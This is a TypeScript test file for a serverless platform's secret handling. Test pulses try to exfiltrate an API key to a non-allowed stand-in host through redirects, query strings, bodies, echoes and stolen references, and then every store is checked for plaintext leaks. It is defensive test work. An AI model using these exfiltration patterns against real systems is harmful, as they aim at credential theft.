// Secrets from the attacker's side: hostile pulses try every way out for a secret's value. Each attempt
// fails, and afterwards the plaintext is searched for in every response, every log line the platform
// wrote, and every stored row, object and key: it is nowhere.

import { env, exports } from "cloudflare:workers";
import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { loadKeyring, openSecret, sealSecret } from "../platform/secret-crypto.ts";
import { api, newTenant, type TestTenant } from "./support/control.ts";
import { callHost, deployFixture, uniqueName, type DeployedPulse } from "./support/pulses.ts";
import { allBundleKeys, allKvKeys } from "./support/whole-store.ts";
import control from "../deployer/index.ts";
import { logsOf } from "./support/pulse-logs.ts";

const VALUE = "sk_live_Zx9!Qr7+vW/4tY=u&p\"q'<>";
const SHA_OF_BEARER = async (v: string) =>
  [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(`Bearer ${v}`)))]
    .map((b) => b.toString(16).padStart(2, "0"))
    .join("");

let dev: TestTenant;
let pulse: DeployedPulse;
const seen: string[] = []; // every response body and header the tests received, and every log line

beforeAll(async () => {
  for (const method of ["log", "error", "warn", "info"] as const) {
    const original = console[method].bind(console);
    vi.spyOn(console, method).mockImplementation((...args: unknown[]) => {
      seen.push(args.map((a) => (typeof a === "string" ? a : safeJson(a))).join(" "));
      original(...args);
    });
  }
  dev = await newTenant();
  pulse = await deployFixture("fetcher", { tenant: dev.name });
  const put = await api("PUT", `/v1/pulses/${pulse.name}/secrets/API_KEY`, {
    token: dev.token,
    body: { value: VALUE, hosts: ["upstream.test"] },
  });
  record(put);
  expect(put.status).toBe(200);
});

afterAll(() => {
  vi.restoreAllMocks();
});

function safeJson(value: unknown): string {
  try {
    return JSON.stringify(value) ?? String(value);
  } catch {
    return String(value);
  }
}

function record(res: { body: unknown; headers?: Headers }) {
  seen.push(typeof res.body === "string" ? res.body : safeJson(res.body));
  if (res.headers) seen.push(safeJson(Object.fromEntries(res.headers)));
}

async function send(p: DeployedPulse, input: Record<string, unknown>): Promise<any> {
  const res = await p.call("/", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(input),
  });
  const text = await res.text();
  record({ body: text, headers: res.headers });
  expect(res.status).toBe(200);
  return JSON.parse(text);
}

describe("a secret in use", () => {
  it("is substituted in a header for its allowed host, and the echo comes back redacted", async () => {
    const result = await send(pulse, {
      url: "https://upstream.test/echo",
      headers: { authorization: "Bearer {{secrets.API_KEY}}" },
    });
    expect(result.status).toBe(200);
    const echo = JSON.parse(result.body);
    // The upstream received the real value (its hash matches)...
    expect(echo.authorizationSha256).toBe(await SHA_OF_BEARER(VALUE));
    // ...and what came back to the pulse does not contain it, in the body or the headers.
    expect(echo.headers.authorization).toBe("Bearer [redacted]");
    expect(result.headers["x-echo-authorization"]).toBe("Bearer [redacted]");
  });

  it("is listed by name and hosts only", async () => {
    const list = await api("GET", `/v1/pulses/${pulse.name}/secrets`, { token: dev.token });
    record(list);
    expect(list.body.secrets).toEqual([
      {
        name: "API_KEY",
        kind: "secret",
        hosts: ["upstream.test"],
        allowInUrl: false,
        allowInBody: false,
        allowSigning: false,
        updatedAt: expect.any(String),
      },
    ]);
  });
});

describe("exfiltration attempts", () => {
  it("to a host not on its list: refused, nothing sent", async () => {
    const result = await send(pulse, {
      url: "https://other.test/echo",
      headers: { authorization: "Bearer {{secrets.API_KEY}}" },
    });
    expect(result.status).toBe(403);
    expect(JSON.parse(result.body).error.code).toBe("secret_not_allowed_for_host");
  });

  it("via a redirect to another host: the header does not follow", async () => {
    const to = encodeURIComponent("https://other.test/echo");
    const result = await send(pulse, {
      url: `https://upstream.test/redirect?to=${to}`,
      headers: { authorization: "Bearer {{secrets.API_KEY}}" },
    });
    expect(result.status).toBe(200);
    const echo = JSON.parse(result.body);
    expect(echo.host).toBe("other.test");
    expect(echo.headers.authorization).toBeUndefined();
    expect(echo.authorizationSha256).toBe(await sha(""));
  });

  it("in a query string (not allowed in URLs): refused", async () => {
    const result = await send(pulse, { url: "https://upstream.test/echo?key={{secrets.API_KEY}}" });
    expect(result.status).toBe(403);
    expect(JSON.parse(result.body).error.message).toMatch(/may not be placed in a URL/);
  });

  it("in a query string to an allowed host's open redirect (URLs allowed): the redirect is not followed", async () => {
    const urlPulse = await deployFixture("fetcher", { tenant: dev.name });
    record(
      await api("PUT", `/v1/pulses/${urlPulse.name}/secrets/API_KEY`, {
        token: dev.token,
        body: { value: VALUE, hosts: ["upstream.test"], allowInUrl: true },
      }),
    );
    const target = encodeURIComponent("https://other.test/echo?stolen=");
    const result = await send(urlPulse, { url: `https://upstream.test/redirect?to=${target}{{secrets.API_KEY}}` });
    expect(result.status).toBe(403);
    expect(JSON.parse(result.body).error.message).toMatch(/redirect would carry secret API_KEY to other\.test/);
  });

  it("in a body (not allowed in bodies): refused", async () => {
    const result = await send(pulse, {
      url: "https://upstream.test/echo",
      method: "POST",
      body: '{"key":"{{secrets.API_KEY}}"}',
      headers: { "content-type": "application/json" },
    });
    expect(result.status).toBe(403);
    expect(JSON.parse(result.body).error.message).toMatch(/may not be placed in a request body/);
  });

  it("by echoing it back to the end user: redacted on the way in and on the way out", async () => {
    const bodyPulse = await deployFixture("fetcher", { tenant: dev.name });
    record(
      await api("PUT", `/v1/pulses/${bodyPulse.name}/secrets/API_KEY`, {
        token: dev.token,
        body: { value: VALUE, hosts: ["upstream.test"], allowInBody: true },
      }),
    );
    const result = await send(bodyPulse, {
      url: "https://upstream.test/echo",
      method: "POST",
      body: '{"key":"{{secrets.API_KEY}}"}',
      headers: { "content-type": "application/json" },
    });
    expect(result.status).toBe(200);
    const echo = JSON.parse(result.body);
    // The upstream got the value, JSON-escaped into valid JSON...
    expect(JSON.parse(echo.body.replace("[redacted]", "x"))).toEqual({ key: "x" });
    // ...and its echo (the value escaped twice, inside its JSON answer) reached neither the pulse nor the end user.
    expect(echo.body).toBe('{"key":"[redacted]"}');
  });

  it("by reading env.secrets as a value or logging it: only references exist in the isolate", async () => {
    const peek = await deployFixture("secret-peek", { tenant: dev.name });
    record(
      await api("PUT", `/v1/pulses/${peek.name}/secrets/API_KEY`, {
        token: dev.token,
        body: { value: VALUE, hosts: ["upstream.test"] },
      }),
    );
    const res = await peek.call();
    const text = await res.text();
    record({ body: text, headers: res.headers });
    const body = JSON.parse(text);
    expect(body.secrets.API_KEY).toMatch(/^pulseref_[a-z2-7]{32}$/);
    expect(body.asString).toBe(body.secrets.API_KEY);
    // Same name, other pulse: another reference.
    const mine = await send(pulse, { url: "https://upstream.test/echo", headers: { "x-ref": "{{secrets.API_KEY}}" } });
    expect(JSON.parse(mine.body).headers["x-ref"]).toBe("[redacted]");
    expect(body.secrets.API_KEY).not.toBe(JSON.parse(mine.body).headers["x-ref"]);
  });

  it("with another pulse's reference: resolves to nothing", async () => {
    const peek = await deployFixture("secret-peek", { tenant: dev.name });
    record(
      await api("PUT", `/v1/pulses/${peek.name}/secrets/API_KEY`, {
        token: dev.token,
        body: { value: VALUE, hosts: ["upstream.test"] },
      }),
    );
    const stolenRef = (JSON.parse(await (await peek.call()).text()) as { secrets: { API_KEY: string } }).secrets
      .API_KEY;
    const thief = await deployFixture("fetcher", { tenant: (await newTenant()).name });
    const result = await send(thief, {
      url: "https://upstream.test/echo",
      headers: { authorization: `Bearer ${stolenRef}` },
    });
    expect(JSON.parse(result.body).headers.authorization).toBe(`Bearer ${stolenRef}`);
  });

  it("leaves no plaintext anywhere: responses, logs, recordings, SQL, rows, KV, bundles, control output", async () => {
    // Its own tenant, pulse and value: a pulse that sends the secret, keeps and logs the echo it got back,
    // is recorded for replay, and throws once; then every store is searched for the value in every spelling.
    const value = `sk_live_nowhere_${crypto.randomUUID()}!+/=&"'<>`;
    const bytes = new TextEncoder().encode(value);
    const base64 = btoa(String.fromCharCode(...bytes));
    const hex = [...bytes].map((b) => b.toString(16).padStart(2, "0")).join("");
    const spellings = [
      value,
      base64,
      base64.replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, ""),
      hex,
      hex.toUpperCase(),
      encodeURIComponent(value),
      JSON.stringify(value).slice(1, -1),
      [...value].reverse().join(""),
    ];
    const texts: [where: string, text: string][] = [];
    const keep = (where: string, text: unknown) =>
      texts.push([where, typeof text === "string" ? text : safeJson(text)]);
    const consoleFrom = seen.length;
    // The control plane runs in this isolate, so its own output (answers and console lines) is searched too.
    const controlEnv = {
      ...env,
      ...env.TEST_CONTROL_BINDINGS,
      ROUTES: (exports as unknown as { RouteControl: Fetcher }).RouteControl,
    };
    const controlCall = async (method: string, path: string, token: string, body?: unknown) => {
      const ctx = createExecutionContext();
      const json =
        body === undefined ? {} : { headers: { "content-type": "application/json" }, body: JSON.stringify(body) };
      const init = { method, ...json, headers: { authorization: `Bearer ${token}`, ...json.headers } };
      const res = await control.fetch(new Request(`http://127.0.0.1${path}`, init), controlEnv as never, ctx);
      await waitOnExecutionContext(ctx);
      const text = await res.text();
      keep(`control ${method} ${path}`, text + safeJson(Object.fromEntries(res.headers)));
      return { status: res.status, body: text ? JSON.parse(text) : null };
    };
    const owner = await newTenant("pro");
    const name = uniqueName("nowhere");
    const created = await controlCall("POST", "/v1/pulses", owner.token, { name });
    expect(created.status).toBe(201);
    const pulseId = created.body.id as string;
    expect(
      (await controlCall("PUT", `/v1/pulses/${name}/secrets/API_KEY`, owner.token, { value, hosts: ["upstream.test"] }))
        .status,
    ).toBe(200);
    const source = `export default async function run(input: { mode?: string }, env: any) {
  const res = await fetch("https://upstream.test/echo", { headers: { authorization: "Bearer " + env.secrets.API_KEY } });
  const echoed = await res.text();
  console.log("upstream answered", echoed, "for", env.secrets.API_KEY);
  await env.kv.put("echoed", echoed);
  await env.db.exec("CREATE TABLE IF NOT EXISTS echoes (v TEXT)");
  await env.db.query("INSERT INTO echoes (v) VALUES (?)", [echoed]);
  if (input.mode === "throw") throw new Error("failed after " + echoed);
  return JSON.parse(echoed);
}`;
    const uploaded = await controlCall("POST", `/v1/pulses/${name}/versions`, owner.token, {
      files: { "index.ts": source },
      main: "index.ts",
      deploy: true,
    });
    expect(uploaded.status, JSON.stringify(uploaded.body)).toBe(201);

    const answered = await callHost(`${name}.pulses.localhost`, "/");
    const answer = await answered.text();
    keep("answer", answer + safeJson(Object.fromEntries(answered.headers)));
    expect(answered.status).toBe(200);
    // The control: the value did go out, substituted for its host (the upstream hashed what it received).
    expect(JSON.parse(answer).authorizationSha256).toBe(await SHA_OF_BEARER(value));
    const failed = await callHost(`${name}.pulses.localhost`, "/?mode=throw");
    keep("error answer", (await failed.text()) + safeJson(Object.fromEntries(failed.headers)));
    expect(failed.status).toBe(500);

    // Logs and recordings land after the answers: wait (bounded) for both calls' entries.
    const replay = env.PULSE_REPLAY.getByName(pulseId);
    for (let i = 0; i < 100; i++) {
      const logged = (await logsOf(pulseId)).filter((e) => e.level === "error" || e.level === "request");
      if (logged.length >= 3 && (await replay.list(1000)).length >= 2) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    const logEntries = await logsOf(pulseId);
    keep("pulse log store", logEntries);
    const recorded = await replay.list(1000);
    keep("replay store", recorded);
    // A dump quotes SQL strings ('' for '): searched as it is and unquoted.
    const sqlDump = safeJson(await env.PULSE_DB.getByName(pulseId).dump(10_000_000));
    keep("pulse SQL", sqlDump);
    keep("pulse SQL, unquoted", sqlDump.replaceAll("''", "'"));
    expect((await controlCall("GET", `/v1/pulses/${name}/logs?limit=1000`, owner.token)).status).toBe(200);
    expect((await controlCall("GET", `/v1/pulses/${name}/secrets`, owner.token)).status).toBe(200);
    expect(
      (await controlCall("POST", `/v1/pulses/${name}/versions/${uploaded.body.version.id}/preview`, owner.token))
        .status,
    ).toBe(200);
    keep("console", seen.slice(consoleFrom));
    const tables = (
      await env.DB.prepare(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '_cf_%'",
      ).all<{ name: string }>()
    ).results;
    expect(tables.map((t) => t.name)).toContain("secrets");
    for (const { name: table } of tables)
      keep(`table ${table}`, (await env.DB.prepare(`SELECT * FROM "${table}"`).all()).results);
    for (const key of await allKvKeys()) keep(`KV ${key}`, `${key} ${(await env.PULSE_KV.get(key)) ?? ""}`);
    for (const key of await allBundleKeys()) keep(`bundle ${key}`, (await (await env.BUNDLES.get(key))?.text()) ?? "");

    const found = texts.flatMap(([where, text]) =>
      spellings.filter((s) => text.includes(s)).map((s) => `${where}: ${s}`),
    );
    expect(found).toEqual([]);
    // The stores searched did receive the echo (so the search covered it): redacted, in every place it was kept.
    expect(logEntries.some((e) => e.level === "error" && e.message.includes("failed after"))).toBe(true);
    expect(recorded).toHaveLength(2);
    expect(texts.filter(([, text]) => text.includes("Bearer [redacted]")).map(([where]) => where)).toEqual(
      expect.arrayContaining([
        "answer",
        "pulse log store",
        "replay store",
        "pulse SQL",
        "KV " + `vibe:${pulseId}:echoed`,
      ]),
    );
  });
});

describe("secret storage", () => {
  it("rotates keys: old ciphertexts open after the primary changes, and a row moved to another pulse does not", async () => {
    const k1 = btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(32))));
    const k2 = btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(32))));
    const before = await loadKeyring(JSON.stringify({ primary: "k1", keys: { k1 } }));
    const after = await loadKeyring(JSON.stringify({ primary: "k2", keys: { k1, k2 } }));
    const owner = { pulseId: "pabc", kind: "secret", name: "X" };
    const sealed = await sealSecret(before, owner, "a value long enough");
    expect(await openSecret(after, owner, sealed)).toBe("a value long enough");
    expect((await sealSecret(after, owner, "new")).keyId).toBe("k2");
    await expect(openSecret(after, { ...owner, pulseId: "pother" }, sealed)).rejects.toThrow();
  });

  it("refuses values too short to redact, wildcard-only hosts and bad names", async () => {
    for (const [secret, body] of [
      ["SHORT", { value: "abc", hosts: ["upstream.test"] }],
      ["ANYWHERE", { value: "long enough value", hosts: ["*"] }],
      ["lower", { value: "long enough value", hosts: ["upstream.test"] }],
      ["NOHOSTS", { value: "long enough value", hosts: [] }],
    ] as const) {
      const res = await api("PUT", `/v1/pulses/${pulse.name}/secrets/${secret}`, { token: dev.token, body });
      expect(res.status, secret).toBe(400);
    }
  });

  it("resolves connections the same way", async () => {
    const put = await api("PUT", `/v1/pulses/${pulse.name}/connections/GITHUB`, {
      token: dev.token,
      body: { accessToken: "gho_connection_token_value", hosts: ["upstream.test"] },
    });
    expect(put.status).toBe(200);
    expect(JSON.stringify(put.body)).not.toContain("gho_connection_token_value");
    const result = await send(pulse, {
      url: "https://upstream.test/echo",
      headers: { authorization: "Bearer {{connections.GITHUB}}" },
    });
    expect(JSON.parse(result.body).authorizationSha256).toBe(await sha("Bearer gho_connection_token_value"));
    const del = await api("DELETE", `/v1/pulses/${pulse.name}/connections/GITHUB`, { token: dev.token });
    expect(del.status).toBe(200);
  });
});

async function sha(text: string): Promise<string> {
  return [...new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)))]
    .map((b) => b.toString(16).padStart(2, "0"))
    .join("");
}
